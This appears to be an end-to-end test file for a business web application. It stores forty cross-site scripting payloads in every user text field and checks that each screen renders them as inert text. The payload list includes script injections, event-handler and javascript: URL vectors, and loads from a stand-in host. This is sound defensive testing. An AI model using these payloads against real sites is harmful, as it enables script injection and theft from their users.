/** Text that users enter stays text: forty attacks by script in every field, on every screen. */

import { createClient, createNote, type Row } from '#tests/e2e/steps.ts';
import { expect, openAs, test, type Product } from '#tests/support/helpers/appFixture.ts';

const ATTACKS = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert`1`">',
  '<image href=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">go</a>',
  '<a href="jav&#x09;ascript:alert(1)">go</a>',
  '<form action="javascript:alert(1)"><button>go',
  '<button formaction="javascript:alert(1)">go',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '%3Cscript%3Ealert(1)%3C/script%3E',
];

const ALL = ATTACKS.join('\n');

/** As many attacks as a field of this length holds, beginning with other ones for each variant. */
function fill(length: number, variant: number): string {
  let text = '';
  for (const [index] of ATTACKS.entries()) {
    const next = ATTACKS[(variant * 7 + index) % ATTACKS.length] ?? '';
    if (text.length + next.length + 1 <= length) text += ` ${next}`;
  }
  return text.trim();
}

/** After these, each attack was in a field of 255 characters. */
const VARIANTS = [0, 1, 2, 3, 4, 5];

test('text that users enter stays text on every screen [T18 S-22]', async ({ page, product }) => {
  test.setTimeout(240_000);
  const { manager, paths } = await createHostileData(product);
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(`${page.url()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  const foreign: string[] = [];
  page.on('request', (request) => {
    const { origin, protocol } = new URL(request.url());
    if (protocol.startsWith('http') && origin !== new URL(product.url).origin) foreign.push(request.url());
  });
  for (const path of paths) {
    await openAs(page, product, manager, path);
    // Under a dialog the heading has no role.
    await expect(page.locator('h1').first()).toBeVisible();
    await expect(page.locator('.animate-pulse')).toHaveCount(0);
    await expect
      .poll(() => page.evaluate(readText), { message: path })
      .toMatch(/<script|<img|<svg|<iframe|javascript:/i);
    expect(await page.evaluate(listInjectedElements), path).toEqual([]);
  }
  expect({ dialogs, foreign }).toEqual({ dialogs: [], foreign: [] });
});

/** Runs in the page: its text with the values of fields. */
function readText(): string {
  const fields = [...document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>('input, textarea')];
  return `${document.body.innerText}\n${fields.map((field) => field.value).join('\n')}`;
}

/** Runs in the page: elements and attributes that only text of users could have created. */
function listInjectedElements(): string[] {
  return [...document.querySelectorAll('*')]
    .filter(
      (element) =>
        element.matches('marquee, object, embed, math, animate, base, image, audio, video') ||
        [...element.attributes].some(
          ({ name, value }) =>
            name.startsWith('on') ||
            (/^(href|src|action|formaction)$/.test(name) && /^\s*(javascript|data:text)/i.test(value)),
        ),
    )
    .map((element) => element.outerHTML.slice(0, 200));
}

/** Creates one of each thing with attacks in each text field, and lists the addresses that show them. */
async function createHostileData(product: Product) {
  const admin = await product.admin();
  const call = (endpoint: string, body: object) => product.call<Row>(admin.token, endpoint, body);
  const manager = await product.person({ role: 'manager' });
  await call(`PUT /api/users/${manager.user.id}/profile`, {
    firstName: fill(100, 1),
    lastName: fill(100, 2),
    phone: fill(50, 0),
    position: fill(100, 3),
    department: fill(100, 4),
    address: fill(500, 1),
    bio: ALL,
  });
  const description = ALL.slice(0, 2000);
  await call('PUT /api/business', { name: fill(255, 1), address: fill(500, 2), description });
  let client = 0;
  for (const variant of VARIANTS) {
    ({ id: client } = await createClient(product, admin, {
      companyName: fill(255, variant),
      contactName: fill(255, variant + 1),
      phone: fill(50, 3),
      address: fill(500, variant),
      intakeInformation: ALL,
    }));
  }
  const service = { serviceName: fill(255, 2), serviceDescription: ALL, notes: ALL };
  await call(`POST /api/clients/${client}/services`, service);
  const assignment = { employeeId: manager.user.id, role: fill(50, 0), notes: ALL };
  await call(`POST /api/clients/${client}/assignments`, assignment);
  await call(`POST /api/clients/${client}/documents`, {
    // A file name contains no slash.
    originalName: `${fill(240, 3).replaceAll('/', '\u2215')}.pdf`,
    fileSize: 10,
    mimeType: 'application/pdf',
    description: ALL,
  });
  await call(`PUT /api/clients/${client}/time-units`, { totalTimeUnits: 50, reason: fill(500, 3) });
  const texts = { description, research: ALL.slice(0, 1500), summary: fill(500, 1) };
  let note = 0;
  for (const variant of VARIANTS) {
    const title = fill(255, variant);
    const fileUrl = `https://example.com/?q=${variant}<script>`;
    await call('POST /api/business-resources', { title, description: ALL, fileUrl });
    const news = { title, content: ALL, location: title, priority: 'high', type: 'general' };
    await call('POST /api/announcements', news);
    const subject = fill(200, variant);
    await call('POST /api/messages', { recipientId: manager.user.id, subject, content: ALL });
    ({ id: note } = await createNote(
      product,
      manager,
      { id: client },
      { ...texts, title, tags: [fill(50, 0)] },
    ));
  }
  const fields = { draftName: fill(255, 0), title: fill(255, 1), clientId: client, content: description };
  const draft = await product.call<Row>(manager.token, 'POST /api/drafts', {
    ...texts,
    ...fields,
    description: undefined,
  });
  const [message] = await product.call<Row[]>(manager.token, 'GET /api/messages/inbox');
  const paths = [
    '/',
    '/dashboard',
    '/announcements',
    `/submit?draft=${draft.id}`,
    `/submit?note=${note}`,
    '/my-notes',
    `/my-notes?note=${note}`,
    '/search?show=all',
    '/search?q=script',
    '/mail',
    `/mail?message=${message?.id}`,
    '/management',
    `/management?note=${note}`,
    '/management?view=resources',
    '/clients',
    ...['', '/notes', '/authorizations', '/units', '/documents', '/history'].map(
      (part) => `/clients/${client}${part}`,
    ),
    '/employees',
    `/profile/${manager.user.id}`,
    '/profile',
    '/payroll',
    '/business-settings',
    '/audit',
    '/test',
  ];
  return { manager, paths };
}
